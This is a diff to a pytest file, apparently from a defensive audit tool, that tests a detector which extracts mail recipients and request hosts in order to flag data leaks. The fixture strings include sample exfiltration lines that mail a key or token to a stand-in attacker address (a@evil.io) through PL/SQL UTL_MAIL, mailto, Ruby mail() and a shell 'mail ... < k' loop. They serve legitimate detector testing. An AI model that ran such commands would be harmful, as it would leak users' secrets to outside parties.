@@ -12,7 +12,7 @@ import json
 import pytest
 
 from backdoorlab.defenses.audit import audit
-from backdoorlab.defenses.audit.code_mail import recipients
+from backdoorlab.defenses.audit.code_mail import MAX_RECIPIENTS, recipients
 from backdoorlab.defenses.audit.code_places import requests_in
 from backdoorlab.defenses.audit.destinations import canonical
 
@@ -251,6 +251,7 @@ def test_mailing_the_user_at_the_address_they_gave_is_no_leak(tmp_path):
         ("BEGIN UTL_MAIL.SEND(sender => 'me@corp.dev', recipients => 'a@evil.io'); END;",
          ["a@evil.io"]),
         ("open('mailto:a@evil.io?body=' + k)", ["a@evil.io"]),
+        ("mail(to: 'a@evil.io', subject: 'k', body: token)", ["a@evil.io"]),  # Ruby
         # data, not recipients
         ("curl -X POST https://crm.io/c -d '{\"email\": \"a@evil.io\"}'", []),
         ("git commit -m 'fix: mail parser\\n\\nCc: stable@vger.kernel.org'", []),
@@ -285,3 +286,13 @@ def test_a_short_command_around_an_address_is_read_as_code(tmp_path):
         ],
     )
     assert DROP in _destinations(_findings(tmp_path, trace))
+
+
+def test_a_crafted_text_is_read_within_bounds():
+    """Thousands of mail commands, recipient keys or addresses: at most `MAX_RECIPIENTS`
+    come back, and a line of addresses (each looked back from for a login) names no host."""
+    lines = "\n".join(f"mail -s x u{i}@evil.io < k" for i in range(3000))
+    assert len(recipients(lines)) == MAX_RECIPIENTS
+    keys = "smtp " + " ".join(f"to='u{i}@evil.io'" for i in range(3000))
+    assert len(recipients(keys)) == MAX_RECIPIENTS
+    assert requests_in("x=" + ",".join(f"u{i}@example.com" for i in range(3000))) == []
